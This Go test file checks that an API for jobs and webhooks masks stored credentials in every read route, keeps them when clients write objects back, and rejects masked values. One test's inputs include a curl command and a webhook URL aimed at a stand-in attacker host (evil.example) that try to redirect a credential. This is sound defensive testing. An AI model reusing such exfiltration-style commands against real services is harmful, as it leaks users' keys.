package mittoapi_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/latch-run/latch/internal/api"
	"github.com/latch-run/latch/internal/api/apitest"
	"github.com/latch-run/latch/internal/registry"
)

// keyed is a job that starts another one with a key in the query, as such jobs
// are written.
const keyed = `{"id":7,"type":"cmd",
	"conf":{"cmd":"curl https://c.example/?sig=hush-3","cmd_env":{"API_TOKEN":"hush-4"}},
	"notify":"https://n.example/?token=hush-5",
	"webhooks":[
		{"url":"https://latch.example/v2/jobs/1/:actions?API_KEY=hush-1&a=1","event_type":"JOB_SUCCESS"},
		{"url":"https://hooks.slack.com/services/T1/B1/hush-2","event_type":"JOB_FAILURE",
			"headers":{"Authorization":"Bearer hush-6"}}]}`

// No route shows a key in a registered job's URLs to anybody.
func TestRegisteredURLsAreShownWithoutKeys(t *testing.T) {
	t.Parallel()
	parsed, err := api.ParseKeys(apitest.Keys)
	require.NoError(t, err)
	jobs := &apitest.Registry{Ran: map[string]registry.Run{}}
	handler := apitest.New(t, apitest.Temporal(), api.Options{Routes: apitest.WithRegistry(jobs), Keys: parsed})
	made := apitest.Call(handler, "POST", "/v2/jobs", keyed, "X-API-Key", "admin")
	require.Equal(t, 201, made.Code, made.Body)
	require.NotContains(t, made.Body.String(), "hush")
	var webhooks []map[string]any
	require.NoError(t, json.Unmarshal(apitest.Call(handler, "GET", "/webhooks", "", "X-API-Key", "read").Body.Bytes(), &webhooks))
	require.Equal(t, "https://latch.example/v2/jobs/1/:actions?API_KEY=***&a=1", webhooks[0]["url"])
	require.Equal(t, "https://hooks.slack.com/services/***", webhooks[1]["url"])
	one := "/webhooks/" + strings.TrimSuffix(string(apitest.Encode(t, webhooks[0]["id"])), ".0")
	for _, role := range []string{"admin", "run", "lock", "read"} {
		for _, path := range []string{"/v2/jobs", "/v2/jobs/7", "/api/v2/jobs/7", "/api/job/7", "/v2/jobs/7/webhooks",
			"/webhooks", "/api/webhooks", one, "/v2/bulk/jobs", "/v2/jobs/search"} {
			got := apitest.Call(handler, "GET", path, "", "X-API-Key", role)
			require.Equal(t, 200, got.Code, "%s %s", path, got.Body)
			require.NotContains(t, got.Body.String(), "hush", "%s as %s", path, role)
		}
	}
	require.Contains(t, string(apitest.Encode(t, jobs.Jobs[0].Job)), "hush-1", "it is kept")
}

// A client that reads a whole object, changes something and writes it back
// destroys no key: in a webhook, a job, a copy of one, and a list of copies.
func TestWritingBackWhatWasShownKeepsKeys(t *testing.T) {
	t.Parallel()
	for name, write := range map[string]func(b *mittoBench, shown map[string]any){
		"PUT of a webhook": func(b *mittoBench, shown map[string]any) {
			for _, each := range shown["webhooks"].([]any) {
				webhook := each.(map[string]any)
				webhook["enabled"] = false
				b.do(200, "PUT", "/webhooks/"+string(apitest.Encode(t, webhook["id"])), string(apitest.Encode(t, webhook)))
			}
		},
		"PATCH of a job": func(b *mittoBench, shown map[string]any) {
			shown["title"] = "another"
			b.do(200, "PATCH", "/v2/jobs/7", string(apitest.Encode(t, shown)))
		},
		"PATCH of its webhooks": func(b *mittoBench, shown map[string]any) {
			shown["webhooks"].([]any)[0].(map[string]any)["method"] = "GET"
			b.do(200, "PATCH", "/v2/jobs/7", string(apitest.Encode(t, map[string]any{"webhooks": shown["webhooks"]})))
		},
		"a copy": func(b *mittoBench, shown map[string]any) {
			b.do(201, "POST", "/v2/jobs", string(apitest.Encode(t, shown)))
		},
		"a list of jobs": func(b *mittoBench, shown map[string]any) {
			b.do(201, "POST", "/v2/bulk/jobs", string(apitest.Encode(t, []any{shown})))
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			b := newMitto(t)
			b.do(201, "POST", "/v2/jobs", keyed)
			var shown map[string]any
			require.NoError(t, json.Unmarshal([]byte(b.do(200, "GET", "/v2/jobs/7", "")), &shown))
			write(b, shown)
			last := b.registry.Jobs[len(b.registry.Jobs)-1]
			stored := string(apitest.Encode(t, last.Job)) + string(apitest.Encode(t, last.Extras))
			for _, hush := range []string{"API_KEY=hush-1", "services/T1/B1/hush-2", "sig=hush-3", "hush-4", "token=hush-5", "Bearer hush-6"} {
				require.Contains(t, stored, hush)
			}
			require.NotContains(t, stored, "***")
		})
	}
}

// A credential that cannot be restored is refused, by its field: a key is never used for
// another host, and *** is never stored.
func TestHiddenKeysAreNotTaken(t *testing.T) {
	t.Parallel()
	b := newMitto(t)
	b.do(201, "POST", "/v2/jobs", keyed)
	var webhooks []map[string]any
	require.NoError(t, json.Unmarshal([]byte(b.do(200, "GET", "/webhooks", "")), &webhooks))
	one := "/webhooks/" + string(apitest.Encode(t, webhooks[0]["id"]))
	const moved = `{"url":"https://evil.example/?API_KEY=***","event_type":"JOB_SUCCESS"}`
	for _, test := range []struct{ method, path, body, location string }{
		{"PUT", one, moved, "body.url"},
		{"POST", "/v2/jobs/7/webhooks", moved, "body.url"},
		{"POST", "/v2/jobs", `{"title":"new","webhooks":[` + moved + `]}`, "body.webhooks[0]"},
		{"PATCH", "/v2/jobs/7", `{"conf":{"cmd":"curl https://evil.example/?sig=***"}}`, "body.conf"},
		{"POST", "/latch/v1/releases",
			`{"id":"r","steps":[{"name":"a","do":{"http":{"url":"https://a.example/?token=***"}}}]}`, "body.steps[0].do.http.url"},
		{"POST", "/latch/v1/webhooks", `{"id":"w","url":"https://a.example/?token=***","event":"JOB_SUCCESS"}`, "body.url"},
		{"PUT", "/latch/v1/webhooks/w",
			`{"url":"https://a.example/","headers":{"Authorization":"***"},"event":"JOB_SUCCESS"}`, "body.headers.Authorization"},
	} {
		answer := b.do(422, test.method, test.path, test.body)
		require.Contains(t, answer, `"location":"`+test.location+`"`, test.body)
		require.Contains(t, answer, "hidden when it was shown")
	}
	stored := string(apitest.Encode(t, b.registry.Jobs))
	require.NotContains(t, stored, "evil")
	require.Contains(t, stored, "hush-1")
}
